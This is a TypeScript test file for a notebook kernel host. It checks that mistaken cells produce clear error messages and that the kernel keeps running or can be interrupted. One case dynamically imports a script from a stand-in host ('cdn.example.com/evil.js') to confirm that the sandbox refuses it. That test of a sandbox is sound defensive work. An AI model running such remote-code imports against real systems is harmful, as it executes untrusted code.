// A careless student's cells through the in-process host: each mistake an error output naming it, the kernel alive after.
import { describe, expect, it } from 'vitest';
import { NodeHost } from './nodeHost';
import type { Output } from './protocol';
import { runCell } from './testing';

const errorOf = (outputs: Output[]): Extract<Output, { kind: 'error' }> | undefined => outputs.find((o): o is Extract<Output, { kind: 'error' }> => o.kind === 'error');

describe('a cell with a mistake', () => {
  it.each<[string, string, RegExp, number?]>([
    ['la.matmul of mismatched shapes, naming both', 'const A = la.array([[1, 2], [3, 4], [5, 6]]);\nla.matmul(A, la.array([[1], [2], [3]]))', /^matmul: \(3x2\)·\(3x1\): inner sizes 2 and 3 differ$/, 2],
    ["tf.matMul's shape error", 'const a = tf.ones([2, 3]);\ntf.matMul(a, a)', /inner shapes \(3\) and \(2\) of Tensors with shapes 2,3 and 2,3/, 2],
    ['a tensor with too few values', 'tf.tensor2d([1, 2, 3], [2, 2])', /shape, \[2,2\], the tensor should have 4 values but has 3/, 1],
    ['a thrown string', 'throw "my own message"', /^my own message$/],
    ['80 GB of float64', 'const big = new Float64Array(1e10);', /^Invalid typed array length: 10000000000 \(far more numbers than a browser tab has memory for: use fewer\)$/, 1],
    ['runaway recursion', 'const down = (n: number): number => down(n + 1);\ndown(0)', /call stack size exceeded \(a function kept calling itself/, 1],
    ['an import from another site, computed when it runs', 'const where = "https://cdn.example.com/" + "evil.js";\nawait import(where);', /^import\(\) https:\/\/cdn\.example\.com\/evil\.js refused: the notebook does not reach other sites/, 2],
  ])('%s: an error output, then the kernel runs the next cell', async (_what, code, message, line) => {
    const host = new NodeHost();
    const run = await runCell(host, code);
    expect(run.status).toBe('error');
    const error = errorOf(run.outputs);
    expect(error?.message).toMatch(message);
    expect(error?.line).toBe(line);
    expect((await runCell(host, '6 * 7')).outputs).toEqual([{ kind: 'text', text: '42' }]);
  });

  it('waiting forever (await of a promise that never settles): Interrupt ends it and the queued cell, and the new kernel runs', async () => {
    const host = new NodeHost();
    const stuck = host.run('stuck', 'await new Promise(() => {});', () => undefined);
    const queued = host.run('queued', 'print("never")', () => undefined);
    await new Promise((resolve) => setTimeout(resolve, 20));
    await host.interrupt();
    expect((await stuck).status).toBe('interrupted');
    expect((await queued).status).toBe('interrupted');
    expect((await runCell(host, '1 + 1')).outputs).toEqual([{ kind: 'text', text: '2' }]);
  });
});
